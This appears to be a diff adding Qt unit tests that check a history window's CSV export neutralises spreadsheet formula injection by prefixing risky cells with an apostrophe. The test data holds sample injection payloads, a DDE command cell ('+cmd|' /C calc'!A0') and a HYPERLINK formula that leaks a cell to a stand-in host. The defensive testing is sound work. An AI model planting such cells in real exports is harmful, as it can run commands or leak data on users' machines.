@@ -7,6 +7,7 @@
 #include "history_samples.h"
 #include "history/load_table_model.h"
 #include "history/sqlite_history_store.h"
+#include "history_window/csv_text.h"
 #include "history_window/history.h"
 #include "history_window/report_tab.h"
 #include "records/memory_workbook.h"
@@ -139,6 +140,9 @@ private slots:
     void headingClickSortsInTheStore();
     void doubleClickAndButtonsHandOverTheWholeLoad();
     void csvHoldsWhatIsShownByteForByte();
+    void csvCellsThatWouldRunAreWrittenAsText_data();
+    void csvCellsThatWouldRunAreWrittenAsText();
+    void csvOfTypedFormulasOpensAsText();
     void excelRowsAreTypedNumbersAndTexts();
     void exportIntoUnwritableFolderSaysSoAndChangesNothing();
     void officeFailureIsNamedAndTheWindowIsFreeAgain();
@@ -335,6 +339,67 @@ void TestHistoryWindow::csvHoldsWhatIsShownByteForByte()
               .toUtf8();
     QCOMPARE(file.readAll(), expected);
     QVERIFY(label("statusLabel")->text().contains(m_savePath));
+}
+
+// A spreadsheet program runs a cell beginning with =, +, -, @, a tab or a
+// carriage return: a typed text opens as text, the program's numbers stay numbers.
+void TestHistoryWindow::csvCellsThatWouldRunAreWrittenAsText_data()
+{
+    QTest::addColumn<QString>("text");
+    QTest::addColumn<bool>("numberColumn");
+    QTest::addColumn<QString>("field");
+    QTest::newRow("A link formula gets an apostrophe inside its quotes")
+        << "=HYPERLINK(\"http://x/?\"&A1,\"点击\")" << false << "\"'=HYPERLINK(\"\"http://x/?\"\"&A1,\"\"点击\"\")\"";
+    QTest::newRow("A command after a plus gets an apostrophe") << "+cmd|' /C calc'!A0" << false << "'+cmd|' /C calc'!A0";
+    QTest::newRow("A function after an at sign gets an apostrophe") << "@SUM(1)" << false << "'@SUM(1)";
+    QTest::newRow("A typed text after a minus gets an apostrophe") << "-2+3" << false << "'-2+3";
+    QTest::newRow("A typed number is a text like any other") << "-5" << false << "'-5";
+    QTest::newRow("A leading tab gets an apostrophe") << "\t=1" << false << "'\t=1";
+    QTest::newRow("A leading carriage return gets an apostrophe, quoted") << "\r=1" << false << "\"'\r=1\"";
+    QTest::newRow("An equals sign inside a text is left alone") << "A=1" << false << "A=1";
+    QTest::newRow("A negative amount stays a number") << "-450.00" << true << "-450.00";
+    QTest::newRow("A whole number of pieces stays a number") << "27" << true << "27";
+    QTest::newRow("Anything else in a number column is a text") << "-1+1" << true << "'-1+1";
+}
+
+void TestHistoryWindow::csvCellsThatWouldRunAreWrittenAsText()
+{
+    QFETCH(QString, text);
+    QFETCH(bool, numberColumn);
+    QFETCH(QString, field);
+    QCOMPARE(numberColumn ? csvNumberField(text) : csvField(text), field);
+    const QByteArray row = csvBytes({ { QStringLiteral("x"), text } }, numberColumn ? QSet<int> { 1 } : QSet<int> {});
+    QCOMPARE(row, QByteArray("\xEF\xBB\xBF") + (QStringLiteral("x,") + field + QStringLiteral("\r\n")).toUtf8());
+}
+
+// The exported file, as a spreadsheet program opens it: what was typed as
+// formulas arrives as text, the amounts as numbers; the .xls keeps the text.
+void TestHistoryWindow::csvOfTypedFormulasOpensAsText()
+{
+    LoadRecord load = sampleLoad(LoadKind::StockOut, "2026-12-09 14:00", "柏木", "2", "0.9000", "-450.00",
+        QStringLiteral("=HYPERLINK(\"http://x\")"), QStringLiteral("@SUM(1)"));
+    load.tally.captions[Tally::Supplier].value = QStringLiteral("+cmd|' /C calc'!A0");
+    m_store->record(load);
+    m_window->refresh();
+    QLineEdit* text = m_window->findChild<QLineEdit*>(QStringLiteral("textFilter"));
+    QVERIFY(text);
+    text->setText(QStringLiteral("SUM"));
+    QTRY_COMPARE(table()->model()->rowCount(), 1);
+    m_savePath = m_dir->filePath(QStringLiteral("公式.csv"));
+    QTest::mouseClick(push("csvButton"), Qt::LeftButton);
+    QFile file(m_savePath);
+    QVERIFY(file.open(QIODevice::ReadOnly));
+    const QString rows = QString::fromUtf8(file.readAll());
+    QVERIFY2(rows.contains(QStringLiteral("2026-12-09 14:00,出库,,柏木,\"'=HYPERLINK(\"\"http://x\"\")\",'+cmd|' /C calc'!A0,'@SUM(1),2,0.9000,-450.00\r\n")),
+        qPrintable(rows));
+
+    m_savePath = m_dir->filePath(QStringLiteral("公式.xls"));
+    QTest::mouseClick(push("excelButton"), Qt::LeftButton);
+    QTRY_VERIFY_WITH_TIMEOUT(m_spreadsheet->files.contains(m_savePath), 10000);
+    QTRY_VERIFY(!m_window->exportRunning());
+    const MemorySheet sheet = m_spreadsheet->files.value(m_savePath).first();
+    QCOMPARE(sheet.cells.value({ 2, 5 }).text, QStringLiteral("=HYPERLINK(\"http://x\")"));
+    QCOMPARE(sheet.cells.value({ 2, 7 }).text, QStringLiteral("@SUM(1)"));
 }
 
 void TestHistoryWindow::excelRowsAreTypedNumbersAndTexts()
